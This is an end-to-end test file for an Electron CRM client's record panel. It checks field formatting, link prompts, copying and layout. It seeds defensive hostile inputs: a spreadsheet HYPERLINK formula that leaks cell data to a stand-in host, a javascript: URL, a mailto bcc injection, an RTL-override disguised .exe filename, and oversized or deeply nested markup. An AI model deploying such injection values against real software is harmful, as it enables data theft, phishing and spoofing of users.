import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostileRichText, hostileTexts } from '../../src/sandbox/company/phrases.ts';
import {
  answerQuestions,
  clipboardText,
  fieldValue,
  openRecord,
  recordPanel,
} from './support/record-panel.ts';
import { Workplace } from './support/workplace.ts';

const rich =
  '<h2>Visit</h2><p style="color:red" class="x" id="root">Met at the <b>open day</b>.</p>' +
  '<ul><li>two coolers</li></ul><a href="https://example.com/terms">terms</a>';
const everyKind = {
  First_Name: 'Ada',
  Last_Name: 'Kinds',
  Email: 'ada.kinds@example.org',
  Phone: '+44 20 7946 0000',
  Website: 'https://www.example.com/people/1',
  Lead_Source: 'Referral',
  Interests: ['Coolers', 'Sensors'],
  Date_of_Birth: '1990-02-03',
  Next_Call: '2026-03-01T17:30:00+01:00',
  Currency: 'EUR',
  Lifetime_Value: 1234.5,
  Visits_This_Year: 1200,
  Satisfaction: 87,
  Cold_Store_Volume: 12.34,
  Newsletter: true,
  Contact_Number: 'QM-000777',
  Days_As_Customer: 1402,
  Tag: [{ name: 'Renewal', id: '5500000000000551003', color_code: '#63C57E' }],
  Tax_Reference: '**********',
  Description: 'First line\nsecond line',
  Meeting_Notes: rich,
  Badge_Photo: [{ id: '1', File_Name__s: 'badge.png', Size__s: '800' }],
  Signed_Terms: [{ id: '2', File_Name__s: 'invoice\u202efdp.exe', Size__s: '900' }],
  Products_Of_Interest: [
    { id: '3', Products_Of_Interest: { name: 'Walk-in cooler', id: '5500000000000000001' } },
  ],
  Visit_Lines: [
    { id: '4', Product: 'Cooler', Count: 2 },
    { id: '5', Product: 'Sensor', Count: 12 },
  ],
  Deals_Won: 48_000,
};

describe('a record on the real Electron', () => {
  let workplace: Workplace;
  let page: Page;

  beforeAll(async () => {
    workplace = await Workplace.open({ sandbox: { contacts: 40 } });
    const { control } = workplace.sandbox;
    const field = (apiName: string, dataType: string, more = {}): void =>
      control.addField('Contacts', { apiName, dataType, value: null, section: 'Money', ...more });
    field('Visit_Lines', 'subform');
    field('Deals_Won', 'rollup_summary');
    field('Salary', 'currency', { visible: false });
    control.insertRecord('Contacts', everyKind);
    control.insertRecord('Contacts', {
      Last_Name: 'Attack',
      Nickname: hostileTexts[1],
      Title: '\u202egnihsihp',
      Assistant: '=HYPERLINK("http://example.net/?"&A1,"open")',
      Website: "javascript:document.title='owned'",
      Email: 'a@example.org?bcc=b@example.net',
      Description: 'x'.repeat(1_000_000),
      Meeting_Notes: hostileRichText,
    });
    control.insertRecord('Contacts', { Last_Name: 'Huge', Meeting_Notes: `<b>${'y'.repeat(1_000_000)}` });
    control.insertRecord('Contacts', {
      Last_Name: 'Deep',
      Meeting_Notes: `${'<div style="padding:1px">'.repeat(4_000)}<b>deep</b>`,
    });
    ({ page } = await workplace.start());
    await workplace.signIn();
  });

  afterAll(async () => {
    const { problems } = workplace;
    await workplace.close();
    expect(problems).toEqual([]);
  });

  it('shows every kind of field as a person reads it, in their formats and zone', async () => {
    const panel = await openRecord(page, 'Contacts', 'Ada Kinds');
    const texts: Record<string, string> = {
      Email: 'ada.kinds@example.org',
      Phone: '+44 20 7946 0000',
      Website: 'https://www.example.com/people/1',
      Lead_Source: 'Referral',
      Date_of_Birth: 'Feb 3, 1990',
      Next_Call: 'Mar 1, 2026 10:30 AM',
      Lifetime_Value: '€1,234.50',
      Visits_This_Year: '1,200',
      Satisfaction: '87%',
      Cold_Store_Volume: '12.34',
      Newsletter: 'Yes',
      Email_Opt_Out: '',
      Contact_Number: 'QM-000777',
      Days_As_Customer: '1,402',
      Deals_Won: '48,000',
      Tag: 'Renewal',
      Description: 'First line\nsecond line',
      Salary: 'No access',
    };
    for (const [name, text] of Object.entries(texts)) {
      if (text === '') expect(await fieldValue(panel, name).count(), name).toBe(0);
      else {
        const shown = async (): Promise<string> => (await fieldValue(panel, name).innerText()).trim();
        await expect.poll(shown, { message: name }).toBe(text);
      }
    }
    expect(await fieldValue(panel, 'Badge_Photo').innerText()).toMatch(/^badge\.png\s+800/);
    expect(await fieldValue(panel, 'Signed_Terms').innerText()).toMatch(/^invoicefdp\.exe\s+900/);
    expect(await fieldValue(panel, 'Next_Call').getAttribute('title')).toBe('2026-03-01T17:30:00+01:00');
    expect(await fieldValue(panel, 'Interests').getByRole('listitem').allInnerTexts()).toEqual([
      'Coolers',
      'Sensors',
    ]);
    const colour = fieldValue(panel, 'Lead_Source').locator('[style]');
    expect(await colour.evaluate((mark) => getComputedStyle(mark).backgroundColor)).toBe(
      'rgb(105, 183, 100)',
    );
    expect(await fieldValue(panel, 'Tax_Reference').innerText()).toContain('Hidden by Zoho');
    await fieldValue(panel, 'Products_Of_Interest').getByRole('button', { name: 'Walk-in cooler' }).waitFor();
    const lines = fieldValue(panel, 'Visit_Lines').getByRole('table');
    expect(await lines.getByRole('row').allInnerTexts()).toEqual([
      'Product\tCount',
      'Cooler\t2',
      'Sensor\t12',
    ]);
  });

  it('shows rich text with its formatting and nothing else of it', async () => {
    const notes = fieldValue(recordPanel(page), 'Meeting_Notes');
    expect(await notes.locator('b').innerText()).toBe('open day');
    expect(await notes.getByRole('listitem').allInnerTexts()).toEqual(['two coolers']);
    expect(await notes.locator('[dir=auto] *').evaluateAll(attributesOf)).toEqual(['href', 'title']);
  });

  it('asks before a link of a record is opened, and opens it only then [app.record_link_refused]', async () => {
    const panel = recordPanel(page);
    const asked = await answerQuestions(workplace.app, false);
    await fieldValue(panel, 'Website').getByRole('button').first().click();
    await expect.poll(asked).toHaveLength(1);
    expect((await asked())[0]).toContain('Open www.example.com in the browser?');
    const askedAgain = await answerQuestions(workplace.app, true);
    await fieldValue(panel, 'Meeting_Notes').getByRole('link', { name: 'terms' }).click();
    expect(await workplace.browser.nextAddress()).toBe('https://example.com/terms');
    await fieldValue(panel, 'Phone').getByRole('button').first().click();
    expect(await workplace.browser.nextAddress()).toBe('tel:+442079460000');
    expect(await askedAgain()).toHaveLength(2);
    const refused = await page.evaluate(() => window.deskside.openRecordLink({ url: 'javascript:alert(1)' }));
    expect(refused.ok ? '' : refused.error.code).toBe('app.record_link_refused');
  });

  it('copies any value, with the keyboard alone', async () => {
    const panel = recordPanel(page);
    await panel.getByRole('button', { name: 'Copy Next Call' }).focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => clipboardText(workplace.app)).toBe('Mar 1, 2026 10:30 AM');
    await panel.getByRole('button', { name: 'Copy Visit Lines' }).click();
    await expect.poll(() => clipboardText(workplace.app)).toBe('Product\tCount\nCooler\t2\nSensor\t12');
    expect(await panel.getByRole('button', { name: 'Copy Salary' }).count()).toBe(0);
  });

  it('shows API names on demand, finds fields, and gives the record as JSON', async () => {
    const panel = recordPanel(page);
    await panel.getByRole('button', { name: 'API names' }).click();
    expect(await panel.locator('[data-field="Lifetime_Value"] dt').innerText()).toContain(
      'Lifetime_Value currency',
    );
    await panel.getByRole('button', { name: 'API names' }).click();
    const find = panel.getByRole('searchbox', { name: 'Find field' });
    await find.fill('mailing_c');
    expect(await panel.locator('[data-field]').count()).toBe(0);
    expect(await panel.getByRole('list', { name: /Empty fields/ }).innerText()).toContain('Mailing City');
    await find.fill('no such field');
    await panel.getByText('No field matches.').waitFor();
    await find.press('Escape');
    await panel.locator('[data-field="Email"]').waitFor();
    await panel.getByRole('button', { name: 'Record as JSON' }).click();
    await page.getByRole('button', { name: 'Copy JSON' }).click();
    await expect.poll(async () => (await clipboardText(workplace.app)).startsWith('{')).toBe(true);
    expect(JSON.parse(await clipboardText(workplace.app))).toMatchObject({ Last_Name: 'Kinds' });
    await page.keyboard.press('Escape');
    await panel.waitFor();
  });

  it('runs nothing and loads nothing of hostile values', async () => {
    const title = await page.title();
    const panel = await openRecord(page, 'Contacts', 'Attack');
    const notes = fieldValue(panel, 'Meeting_Notes');
    expect(await notes.locator('b').innerText()).toBe('Bold stays');
    const forbidden = 'script,style,img,svg,iframe,form,input,[style],[onclick],[onerror],[class]';
    expect(await notes.locator('[dir=auto]').locator(forbidden).count()).toBe(0);
    expect(await notes.getByRole('link').allInnerTexts()).toEqual(['real link']);
    expect(
      await fieldValue(panel, 'Website')
        .getByRole('button', { name: /javascript/ })
        .count(),
    ).toBe(0);
    expect(await fieldValue(panel, 'Email').locator('[title="Write a mail"]').count()).toBe(0);
    expect(await fieldValue(panel, 'Nickname').innerText()).toBe(hostileTexts[1]);
    expect(await fieldValue(panel, 'Assistant').innerText()).toContain('=HYPERLINK(');
    const turned = fieldValue(panel, 'Title').locator('[dir=auto]').first();
    expect(await turned.evaluate((text) => getComputedStyle(text).unicodeBidi)).toMatch(/isolate/);
    expect(await page.title()).toBe(title);
    expect(
      await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name)),
    ).toEqual(expect.not.arrayContaining([expect.stringMatching(/example\.(net|com)/)]));
  });

  it('shows a text of a megabyte in pieces, and deep or long markup without hanging', async () => {
    let panel = recordPanel(page);
    const long = fieldValue(panel, 'Description');
    expect((await long.innerText()).length).toBeLessThan(600);
    await long.getByRole('button', { name: 'Show more' }).click();
    expect((await long.innerText()).length).toBeGreaterThan(20_000);
    panel = await openRecord(page, 'Contacts', 'Huge');
    // The beginning is there at once and the rest of it a moment later.
    const huge = fieldValue(panel, 'Meeting_Notes');
    await huge.getByRole('button', { name: 'Show more' }).waitFor();
    expect((await huge.innerText()).length).toBeLessThan(600);
    panel = await openRecord(page, 'Contacts', 'Deep');
    const deep = fieldValue(panel, 'Meeting_Notes');
    await deep.getByText('deep').waitFor();
    expect(await deep.locator('div').count()).toBeLessThan(60);
  });

  it('shows a record in its own layout', async () => {
    const panel = recordPanel(page);
    const partner = panel.getByRole('region', { name: 'Partner Information' });
    const heading = panel.getByRole('heading').first();
    for (let step = 0; step < 12 && (await partner.count()) === 0; step += 1) {
      const before = await heading.innerText();
      await page.keyboard.press('j');
      await expect.poll(() => heading.innerText()).not.toBe(before);
      await panel.getByRole('region', { name: 'Related lists' }).waitFor();
    }
    expect(await partner.locator('dt').first().innerText()).toBe('Loyalty');
    expect(await panel.getByRole('region', { name: 'Contact Information' }).count()).toBe(0);
  });

  it('comes back from a look-up to the same place, with the focus on the link', async () => {
    const panel = await openRecord(page, 'Deals', '');
    const heading = panel.getByRole('heading').first();
    const deal = await heading.innerText();
    const scroller = panel.locator('[tabindex="-1"]').last();
    const link = fieldValue(panel, 'Account_Name').getByRole('button').first();
    await scroller.evaluate((element) => element.scrollTo({ top: 90 }));
    await expect.poll(() => scroller.evaluate((element) => element.scrollTop)).toBe(90);
    await link.focus();
    await scroller.evaluate((element) => element.scrollTo({ top: 90 }));
    await page.keyboard.press('Enter');
    await expect.poll(() => heading.innerText()).not.toBe(deal);
    await panel.getByRole('region', { name: 'Related lists' }).waitFor();
    expect(await scroller.evaluate((element) => element.scrollTop)).toBe(0);
    await page.keyboard.press('Alt+ArrowLeft');
    await expect.poll(() => heading.innerText()).toBe(deal);
    await expect.poll(() => scroller.evaluate((element) => element.scrollTop)).toBe(90);
    expect(await link.evaluate((element) => element === document.activeElement)).toBe(true);
    await page.keyboard.press('Escape');
    await panel.waitFor({ state: 'hidden' });
    expect(await page.evaluate(() => document.activeElement?.closest('[role="grid"]') !== null)).toBe(true);
  });
});

/** Runs in the page: the names of all attributes. */
function attributesOf(elements: Element[]): string[] {
  return [...new Set(elements.flatMap((element) => element.getAttributeNames()))].sort();
}
